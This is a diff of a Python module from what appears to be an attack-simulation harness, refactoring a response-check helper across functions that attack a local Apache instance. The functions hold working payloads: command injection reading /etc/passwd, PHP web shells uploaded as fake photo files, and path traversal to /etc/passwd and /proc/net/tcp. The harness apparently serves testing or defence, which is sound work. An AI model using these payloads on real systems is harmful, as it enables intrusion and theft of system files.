@@ -6,14 +6,9 @@ import urllib.parse
 
 from .attacker import Home
 from .base import Attack, AttackFailed, Instance
-from .http_client import Browser, fetch
+from .http_client import Browser, fetch, must_show
 
 SERVER = "process /usr/sbin/apache2"
-
-
-def _must_show(answer: tuple[int, bytes], what: bytes) -> None:
-    if what not in answer[1]:
-        raise AttackFailed(f"{what!r} not in the answer: status {answer[0]}, {answer[1][:80]!r}")
 
 
 def _reach(web: Instance, commands: str) -> tuple[int, bytes]:
@@ -26,30 +21,30 @@ def _upload(web: Instance, name: str, code: str) -> None:
 
 
 def inject_command(web: Instance) -> None:
-    _must_show(_reach(web, "id"), b"uid=33")
+    must_show(_reach(web, "id"), b"uid=33")
 
 
 def inject_builtins(web: Instance) -> None:
-    _must_show(_reach(web, "while read -r line; do echo $line; done < /etc/passwd"), b"root:x:0")
+    must_show(_reach(web, "while read -r line; do echo $line; done < /etc/passwd"), b"root:x:0")
 
 
 def use_web_shell(web: Instance) -> None:
     _upload(web, "photo.php", "system($_GET['c']);")
-    _must_show(fetch(web.port, "/uploads/photo.php?c=uname%20-a"), b"Linux")
+    must_show(fetch(web.port, "/uploads/photo.php?c=uname%20-a"), b"Linux")
 
 
 def use_silent_web_shell(web: Instance) -> None:
     _upload(web, "photo2.php", "foreach (scandir('/etc') as $f) echo $f, ' ', @filesize(\"/etc/$f\"), ' ';")
-    _must_show(fetch(web.port, "/uploads/photo2.php"), b"shadow")
+    must_show(fetch(web.port, "/uploads/photo2.php"), b"shadow")
 
 
 def traverse(web: Instance) -> None:
-    _must_show(fetch(web.port, "/index.php?do=view&page=../../../etc/passwd"), b"root:x:0")
+    must_show(fetch(web.port, "/index.php?do=view&page=../../../etc/passwd"), b"root:x:0")
 
 
 def read_sockets(web: Instance) -> None:
     """Which sockets there are; the worker's own environment is closed to it, since it was root."""
-    _must_show(fetch(web.port, "/index.php?do=view&page=../../../proc/net/tcp"), b"local_address")
+    must_show(fetch(web.port, "/index.php?do=view&page=../../../proc/net/tcp"), b"local_address")
 
 
 def send_out(web: Instance) -> None:
